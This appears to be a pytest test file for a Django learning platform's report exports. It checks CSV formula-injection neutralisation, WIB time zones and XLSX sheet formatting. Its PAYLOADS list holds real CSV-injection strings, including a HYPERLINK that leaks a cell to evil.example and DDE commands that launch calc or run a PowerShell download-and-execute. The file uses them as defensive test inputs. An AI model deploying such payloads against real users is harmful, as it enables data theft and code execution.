"""Every CSV export writes formula-like text as text (OWASP CSV injection), numbers as numbers, XLSX
text as text; times in WIB; XLSX sheets a person can work with."""

import csv
import datetime
import io
import uuid
import zipfile
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from courses.models import Enrolment, JPCredit
from h5p.models import H5PResult, H5PStatement
from lms.exports import sheet_name
from lms.spreadsheets import WIB, SafeCSVWriter, neutralise_cell
from people.roster import template_csv
from quizzes.models import QuizResult
from tests.factories import UserFactory
from tests.h5p.factories import item

pytestmark = pytest.mark.django_db

# Real-world payloads: the ones the security run used, and their variants.
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?x="&A1,"Klik")',
    "@SUM(A1:A9)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "=cmd|'/C powershell IEX(wget bit.ly/x)'!A0",
    "\t=1+1",
    "\r=1+1",
    "-@SUM(1)",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_like_text_gets_an_apostrophe(payload):
    assert neutralise_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    "value", [-2, -7.5, Decimal("-12.5"), 0, 42, "-12", "-0.5", "Siti Rahma", "Dr. A, S.E.", "", None, "a=1"]
)
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert neutralise_cell(value) == value


def test_the_roster_template_goes_through_the_same_writer():
    buffer = io.StringIO()
    SafeCSVWriter(buffer).writerow(["=1+1", -3, "Budi"])
    assert buffer.getvalue().strip() == "'=1+1,-3,Budi"
    assert not any(
        cell.startswith("=") for row in csv.reader(io.StringIO(template_csv().decode("utf-8-sig"))) for cell in row
    )


def _csv(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text)))


def _xlsx(response):
    data = b"".join(response.streaming_content)
    return data, load_workbook(io.BytesIO(data)).active


def _no_formula_in(data: bytes):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        for name in sheets:
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


REPORTS = [
    ("reports:jp", {}, 1),
    ("reports:enrolments", {}, 0),
    ("reports:quizzes", {}, 3),
    ("reports:siasn", {"completed_from": "{year}-01-01", "completed_to": "{year}-12-31"}, 13),
]


@pytest.mark.parametrize("payload", PAYLOADS[:5] + ["\t=1+1"])
@pytest.mark.parametrize(("name", "query", "column"), REPORTS)
def test_every_report_export_writes_a_formula_name_as_text(client, world, payload, name, query, column):
    profile = world.people["a1"].asn_profile
    profile.full_name = payload
    profile.save()
    client.force_login(world.admin)
    query = {key: value.replace("{year}", str(world.year)) for key, value in query.items()}
    rows = _csv(client.get(reverse(name), {**query, "export": "csv"}))
    names = [row[column] for row in rows[1:]]
    assert "'" + payload in names
    assert payload not in names

    data, sheet = _xlsx(client.get(reverse(name), {**query, "export": "xlsx"}))
    values = [row[column].value for row in sheet.iter_rows(min_row=2)]
    assert payload in values, "XLSX keeps the name as it is, as a text cell"
    cells = [row[column] for row in sheet.iter_rows(min_row=2) if row[column].value == payload]
    assert all(cell.data_type == "s" for cell in cells)
    _no_formula_in(data)


def test_a_course_title_and_a_unit_name_are_neutralised_too(client, world):
    world.courses["c1"].title = '=HYPERLINK("x")'
    world.courses["c1"].save()
    unit = world.units["opd_a"]
    unit.name = "@Dinas"
    unit.save()
    client.force_login(world.admin)
    completion = _csv(client.get(reverse("reports:completion"), {"export": "csv"}))
    assert '\'=HYPERLINK("x")' in [row[0] for row in completion[1:]]
    jp = _csv(client.get(reverse("reports:jp"), {"export": "csv"}))
    assert all(not row[0].startswith("@") for row in jp[1:])
    assert any(row[0].startswith("'@Dinas") for row in jp[1:])


def test_a_negative_gain_stays_a_number(client, world):
    QuizResult.objects.filter(user=world.people["b1"], quiz=world.quizzes["post"]).update(grade_percent=Decimal(35))
    client.force_login(world.admin)
    rows = _csv(client.get(reverse("reports:quizzes"), {"export": "csv"}))
    header = rows[0]
    gain = header.index("perolehan (poin)") if "perolehan (poin)" in header else len(header) - 1
    budi_post = [row for row in rows[1:] if row[3] == "Budi Empat" and row[2] == "Post-test"][0]
    assert budi_post[gain] == "-15.0"
    _data, sheet = _xlsx(client.get(reverse("reports:quizzes"), {"export": "xlsx"}))
    gains = [row[gain].value for row in sheet.iter_rows(min_row=2) if row[3].value == "Budi Empat"]
    assert -15.0 in gains


@pytest.fixture
def h5p_rows(world):
    content = item(title="=1+1 kuis")
    learner = world.people["a1"]
    learner.asn_profile.full_name = "+cmd|' /C calc'!A0"
    learner.asn_profile.save()
    H5PResult.objects.create(
        user=learner, content=content, content_title="=1+1 kuis", attempts=1, best_raw=-1.0, best_max=2.0
    )
    H5PStatement.objects.create(
        statement_id=uuid.uuid4(),
        user=learner,
        content=content,
        verb="@answered",
        verb_iri="http://adlnet.gov/expapi/verbs/answered",
        object_iri='=HYPERLINK("x")',
        is_top_level=True,
        statement={"verb": {"id": "x"}},
    )
    return content


@pytest.mark.parametrize("url", ["/admin/h5p/results/", "/admin/h5p/statements/"])
def test_h5p_exports_go_through_the_same_writer(client, world, h5p_rows, url):
    client.force_login(UserFactory(username="root", is_superuser=True, is_staff=True))
    rows = _csv(client.get(url, {"export": "csv"}))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells
    for payload in ("=1+1 kuis", "+cmd|' /C calc'!A0", "@answered", '=HYPERLINK("x")'):
        assert payload not in cells
    assert "'+cmd|' /C calc'!A0" in cells
    data, _sheet = _xlsx(client.get(url, {"export": "xlsx"}))
    _no_formula_in(data)


def test_h5p_negative_score_stays_a_number(client, world, h5p_rows):
    client.force_login(UserFactory(username="root", is_superuser=True, is_staff=True))
    rows = _csv(client.get("/admin/h5p/results/", {"export": "csv"}))
    assert "-1.0" in rows[1]


# --- time zone -----------------------------------------------------------------------------------


def _complete_at_new_year(world):
    """a3 completes Kursus Satu at 00:30 WIB on 1 January of next year (17:30 UTC on 31 December)."""
    moment = datetime.datetime(world.year + 1, 1, 1, 0, 30, tzinfo=WIB)
    learner, course = world.people["a3"], world.courses["c1"]
    Enrolment.objects.filter(user=learner, course=course).update(
        progress_status="completed", percent=100, completed_at=moment
    )
    JPCredit.objects.create(
        user=learner,
        course=course,
        course_ref=course.pk,
        course_title=course.title,
        jp=course.jp_value,
        year=world.year + 1,
        credited_at=moment,
    )
    return moment


def test_a_completion_just_after_new_year_exports_in_the_new_year_in_wib(client, world):
    _complete_at_new_year(world)
    next_year = world.year + 1
    client.force_login(world.admin)
    siasn = _csv(
        client.get(
            reverse("reports:siasn"),
            {"export": "csv", "completed_from": f"{next_year}-01-01", "completed_to": f"{next_year}-01-31"},
        )
    )
    agus = [row for row in siasn[1:] if row[13] == "Agus Tiga"]
    assert len(agus) == 1
    assert agus[0][6] == str(next_year)  # tahunKursus
    assert agus[0][8] == f"01-01-{next_year}"  # tanggalSelesaiKursus
    # The participants export writes the time itself in WIB, in CSV and XLSX.
    everyone = reverse("reports:participants", args=[world.courses["c1"].pk])
    rows = _csv(client.get(everyone, {"export": "csv"}))
    header = rows[0]
    completed = [row[header.index("selesai pada")] for row in rows[1:] if row[0] == "Agus Tiga"]
    assert completed == [f"{next_year}-01-01 00:30"]
    _data, sheet = _xlsx(client.get(everyone, {"export": "xlsx"}))
    values = list(sheet.iter_rows(values_only=True))
    column = list(values[0]).index("selesai pada")
    agus_row = [row for row in values[1:] if row[0] == "Agus Tiga"][0]
    assert agus_row[column] == datetime.datetime(next_year, 1, 1, 0, 30)


def test_h5p_export_times_are_wib(client, world, h5p_rows):
    moment = datetime.datetime(world.year + 1, 1, 1, 0, 30, tzinfo=WIB)
    H5PResult.objects.update(completed_at=moment.astimezone(datetime.UTC))
    client.force_login(UserFactory(username="root", is_superuser=True, is_staff=True))
    rows = _csv(client.get("/admin/h5p/results/", {"export": "csv"}))
    assert f"{world.year + 1}-01-01 00:30" in rows[1]


def test_the_participants_page_shows_the_completion_as_a_wib_date(client, world):
    moment = _complete_at_new_year(world)
    assert timezone.localtime(moment, datetime.UTC).year == world.year  # in UTC it is still last year
    client.force_login(world.admin)
    page = client.get(reverse("reports:participants", args=[world.courses["c1"].pk])).content.decode()
    assert f"1 Jan {world.year + 1}, 00.30" in page


# --- XLSX sheets ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Peserta semua kursus", "Peserta semua kursus"),
        ("Peserta: Pengelolaan Keuangan Daerah [angkatan 2]", "Peserta Pengelolaan Keuangan…"),
        ("a/b\\c?d*e:f", "a b c d e f"),
        ("x" * 40, "x" * 30 + "…"),
    ],
)
def test_sheet_names_are_readable_and_within_excels_limit(text, expected):
    assert sheet_name(text) == expected
    assert len(sheet_name(text)) <= 31


@pytest.mark.parametrize(
    "name", ["reports:completion", "reports:enrolments", "reports:jp", "reports:quizzes", "reports:siasn"]
)
def test_xlsx_has_widths_a_frozen_header_and_a_filter(client, world, name):
    client.force_login(world.admin)
    _data, sheet = _xlsx(client.get(reverse(name), {"export": "xlsx"}))
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, sheet.max_column).column_letter}{sheet.max_row}"
    widths = [sheet.column_dimensions[sheet.cell(1, col).column_letter].width for col in range(1, sheet.max_column + 1)]
    assert all(8 <= width <= 60 for width in widths)
    assert len(set(widths)) > 1, "columns are sized to their content"
    assert sheet.title and len(sheet.title) <= 31 and not sheet.title.endswith("-")
    assert sheet.cell(1, 1).font.bold


def test_the_sheet_name_says_what_the_report_is(client, world):
    client.force_login(world.admin)
    _data, sheet = _xlsx(client.get(reverse("reports:enrolments"), {"export": "xlsx"}))
    assert sheet.title == f"Peserta semua kursus {world.year}"
    _data, sheet = _xlsx(client.get(reverse("reports:jp"), {"export": "xlsx"}))
    assert sheet.title == f"Kepatuhan 20 JP {world.year}"
